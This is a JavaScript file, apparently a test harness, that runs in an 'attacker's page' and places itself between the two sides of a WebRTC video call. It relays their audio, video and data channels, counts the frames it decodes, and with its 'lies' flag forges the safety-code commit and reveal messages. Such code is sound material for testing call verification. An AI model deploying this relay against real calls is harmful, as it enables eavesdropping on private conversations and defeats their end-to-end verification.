// Runs in the attacker's page: one RTCPeerConnection to each of the two, everything piped from one to the other.
(() => {
  const KINDS = ['audio', 'video', 'video', 'audio'];
  const legs = new Map();

  const base64Url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '');
  const fingerprint = ({ sdp }) => sdp.match(/a=fingerprint:sha-256 (\S+)/i)[1].replaceAll(':', '').toLowerCase();
  const ownNonce = base64Url(crypto.getRandomValues(new Uint8Array(16)));

  async function described(pc) {
    await pc.setLocalDescription();
    if (pc.iceGatheringState !== 'complete') await new Promise((resolve) => pc.addEventListener('icegatheringstatechange', () => pc.iceGatheringState === 'complete' && resolve()));
    return pc.localDescription.sdp;
  }

  /** Like the promise of the lower id in a safety code, but of a number of ours and the certificates that the receiver sees. */
  async function ownPromise(to) {
    const text = JSON.stringify(['vc-sas-1', ownNonce, fingerprint(to.localDescription), fingerprint(to.remoteDescription)]);
    return base64Url(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)));
  }

  async function relayed(text, to) {
    const message = JSON.parse(text);
    const { data } = message;
    if (!middle.lies || data?.type !== 'safety') return text;
    if (data.step === 'commit') data.value = await ownPromise(to);
    if (data.step === 'reveal') data.value = ownNonce;
    return JSON.stringify(message);
  }

  /** Nothing is lost: what comes before the other leg stands waits for it. */
  function pipe(from, opened, pc) {
    let last = opened;
    from.addEventListener('message', ({ data }) => {
      last = last.then(async (to) => {
        to.send(await relayed(data, pc));
        return to;
      });
    });
  }

  function whenOpen(channel) {
    return new Promise((resolve) => (channel.readyState === 'open' ? resolve(channel) : channel.addEventListener('open', () => resolve(channel))));
  }

  function sound(from, to) {
    from.getTransceivers().forEach(({ receiver }, slot) => to.getTransceivers()[slot].sender.replaceTrack(receiver.track));
  }

  window.middle = {
    /** Speaks for each of the two when they make a safety code; else everything passes as it is. */
    lies: false,

    /** Takes the caller's offer; what the callee is offered instead. */
    async offer(connectionId, sdp) {
      const [caller, callee] = [new RTCPeerConnection(), new RTCPeerConnection()];
      legs.set(connectionId, { caller, callee });
      const right = callee.createDataChannel('vc');
      const left = new Promise((resolve) => caller.addEventListener('datachannel', ({ channel }) => {
        pipe(channel, whenOpen(right), callee);
        resolve(whenOpen(channel));
      }));
      pipe(right, left, caller);
      for (const kind of KINDS) callee.addTransceiver(kind);
      if (sdp) await caller.setRemoteDescription({ type: 'offer', sdp });
      return described(callee);
    },

    /** Takes the callee's answer; what the caller is answered instead. */
    async answer(connectionId, sdp) {
      const { caller, callee } = legs.get(connectionId);
      await callee.setRemoteDescription({ type: 'answer', sdp });
      for (const transceiver of caller.getTransceivers()) transceiver.direction = 'sendrecv';
      sound(caller, callee);
      sound(callee, caller);
      return described(caller);
    },

    candidate: (connectionId, side, candidate) => legs.get(connectionId)?.[side].addIceCandidate(candidate).catch(() => undefined),

    /** Pictures decoded here: of each caller, of each callee. */
    async frames() {
      const counts = await Promise.all([...legs.values()].flatMap(({ caller, callee }) => [caller, callee]).map(decoded));
      return counts.reduce(([left, right], count, at) => (at % 2 ? [left, right + count] : [left + count, right]), [0, 0]);
    },
  };

  async function decoded(pc) {
    const stats = [...(await pc.getStats()).values()];
    return stats.reduce((sum, { type, framesDecoded = 0 }) => sum + (type === 'inbound-rtp' ? framesDecoded : 0), 0);
  }
})();
